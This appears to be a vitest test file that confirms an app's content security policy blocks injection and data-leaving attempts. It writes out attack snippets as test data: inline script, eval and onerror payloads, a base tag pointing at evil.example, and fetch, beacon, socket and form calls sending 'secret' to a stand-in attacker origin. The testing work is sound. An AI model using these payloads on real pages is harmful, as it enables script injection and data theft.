// The content policy comes as a header and holds: nothing inline, nothing evaluated, nothing from elsewhere.
// Each attack must raise the policy's own event for the right directive, and nothing may arrive at the attacker.
import { describe, expect, it } from 'vitest';
import { runInPage } from '../lab/app.ts';
import { attackedApp } from './attacked-app.ts';

const under = attackedApp();

/** Runs the attack, waits for the policy to object, and says by which directive; also what the attack achieved. */
function violation(attack: string): Promise<{ directive: string; attacked: unknown }> {
  return runInPage(under.launched.page, `
    delete window.attacked;
    const seen = new Promise((resolve) => {
      addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
    });
    try { ${attack} } catch {}
    const directive = await seen;
    await new Promise((resolve) => setTimeout(resolve, 0));
    return { directive, attacked: window.attacked ?? null };`);
}

describe('the headers', () => {
  it('carry the policy and its companions, on every answer', async () => {
    for (const path of ['index.html', 'assets/none.js']) {
      const headers = await runInPage<Record<string, string>>(
        under.launched.page, `return Object.fromEntries((await fetch('app://winnow/${path}')).headers)`);
      const policy = (headers['content-security-policy'] ?? '').split('; ');
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("script-src 'self'");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).toContain("base-uri 'none'");
      expect(policy).toContain("form-action 'none'");
      expect(policy.join()).not.toMatch(/unsafe|\*|https?:|blob:/);
      expect(headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'cross-origin-opener-policy': 'same-origin',
        'referrer-policy': 'no-referrer',
      });
      expect(headers['permissions-policy']).toContain('camera=()');
    }
  });

  it('leave nothing inline in the page itself', async () => {
    const html = await runInPage<string>(under.launched.page, `return (await fetch('app://winnow/index.html')).text()`);
    expect(html).not.toMatch(/<style|style=|<script(?![^>]*\ssrc=)|\son[a-z]+=/i);
  });
});

describe('script and style', () => {
  const attacks: readonly (readonly [name: string, directive: string, attack: string])[] = [
    ['an inline script', 'require-trusted-types-for', `const s = document.createElement('script'); s.textContent = 'window.attacked = 1'; document.head.append(s);`],
    ['an inline script as a text node', 'require-trusted-types-for', `const s = document.createElement('script'); s.append('window.attacked = 1'); document.head.append(s);`],
    ['an event handler attribute', 'require-trusted-types-for', `const i = document.createElement('img'); i.setAttribute('onerror', 'window.attacked = 1');`],
    ['eval', 'require-trusted-types-for', `eval('window.attacked = 1');`],
    ['new Function', 'require-trusted-types-for', `new Function('window.attacked = 1')();`],
    ['a timer with text', 'require-trusted-types-for', `setTimeout('window.attacked = 1', 0);`],
    ['WebAssembly', 'script-src', `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); window.attacked = 1;`],
    ['markup from text', 'require-trusted-types-for', `document.createElement('div').innerHTML = '<img src=x onerror="window.attacked=1">';`],
    ['a trusted types policy of its own', 'trusted-types', `trustedTypes.createPolicy('mine', { createScript: (s) => s }); window.attacked = 1;`],
    ['an inline style element', 'style-src-elem', `const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s); if (getComputedStyle(document.body).display === 'none') window.attacked = 1;`],
    ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'display: none'); if (getComputedStyle(document.body).display === 'none') window.attacked = 1; document.body.removeAttribute('style');`],
    ['a worker from a blob', 'require-trusted-types-for', `new Worker(URL.createObjectURL(new Blob(['1'])));`],
    ['a base address', 'base-uri', `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (document.baseURI.includes('evil')) window.attacked = 1;`],
  ];
  for (const [name, directive, attack] of attacks) {
    it(`refuses ${name}`, async () => {
      expect(await violation(attack)).toEqual({ directive, attacked: null });
    });
  }
});

describe('the network', () => {
  const attacks: readonly (readonly [name: string, directive: string, attack: (origin: string) => string])[] = [
    ['fetch', 'connect-src', (origin) => `fetch('${origin}/fetch?list=secret').then(() => { window.attacked = 1; }, () => {});`],
    ['a beacon', 'connect-src', (origin) => `navigator.sendBeacon('${origin}/beacon', 'secret');`],
    ['an XMLHttpRequest', 'connect-src', (origin) => `const x = new XMLHttpRequest(); x.open('POST', '${origin}/xhr'); x.send('secret');`],
    ['an event source', 'connect-src', (origin) => `new EventSource('${origin}/events');`],
    ['a web socket', 'connect-src', (origin) => `new WebSocket('${origin.replace('http', 'ws')}/socket');`],
    ['a remote picture', 'img-src', (origin) => `new Image().src = '${origin}/pixel.png';`],
    ['a remote style sheet', 'style-src-elem', (origin) => `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${origin}/x.css'; document.head.append(l);`],
    ['a remote font', 'font-src', (origin) => `new FontFace('x', 'url(${origin}/x.woff2)').load().catch(() => {});`],
    ['a remote video', 'media-src', (origin) => `const v = document.createElement('video'); v.src = '${origin}/v.mp4'; v.load();`],
    ['an object', 'require-trusted-types-for', (origin) => `const o = document.createElement('object'); o.data = '${origin}/o'; document.body.append(o);`],
    ['an embedded thing', 'require-trusted-types-for', (origin) => `const e = document.createElement('embed'); e.src = '${origin}/e'; document.body.append(e);`],
    ['an icon', 'img-src', (origin) => `const l = document.createElement('link'); l.rel = 'icon'; l.href = '${origin}/i.png'; document.head.append(l);`],
    ['a prefetch', 'default-src', (origin) => `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${origin}/p'; document.head.append(l);`],
    ['a background picture', 'img-src', (origin) => `document.body.style.backgroundImage = 'url(${origin}/b.png)';`],
    ['a frame', 'frame-src', (origin) => `const f = document.createElement('iframe'); f.src = '${origin}/frame'; document.body.append(f);`],
    ['a remote script', 'require-trusted-types-for', (origin) => `const s = document.createElement('script'); s.src = '${origin}/x.js'; document.head.append(s);`],
    ['a remote module', 'script-src-elem', (origin) => `import('${origin}/m.js').catch(() => {});`],
    ['a form', 'form-action', (origin) => `const f = document.createElement('form'); f.method = 'post'; f.action = '${origin}/form'; document.body.append(f); f.submit();`],
  ];
  for (const [name, directive, attack] of attacks) {
    it(`is not reached by ${name}`, async () => {
      expect(await violation(attack(under.attacker.origin))).toEqual({ directive, attacked: null });
      expect(under.attacker.seen).toEqual([]);
    });
  }

  it('is not reached by WebRTC', async () => {
    const candidates = await runInPage<string[]>(under.launched.page, `
      const found = [];
      let peer;
      try { peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${String(under.attacker.udpPort)}' }] }); } catch { return found; }
      const done = new Promise((resolve) => {
        peer.onicecandidate = (event) => { if (event.candidate === null) resolve(); else found.push(event.candidate.candidate); };
        peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve(); };
        // A machine without any network never ends gathering: silence for so long is as good an end.
        setTimeout(resolve, 5_000);
        peer.onconnectionstatechange = () => { if (peer.connectionState === 'failed' || peer.connectionState === 'closed') resolve(); };
      });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await done;
      return found;`);
    expect(candidates).toEqual([]);
    expect(under.attacker.seen).toEqual([]);
  });

  it('cannot be reached with a cached policy either: the page holds no service worker', async () => {
    const result = await runInPage<string>(under.launched.page, `
      try { await navigator.serviceWorker.register('app://winnow/index.html'); return 'registered'; } catch (error) { return error.name; }`);
    expect(result).not.toBe('registered');
  });
});
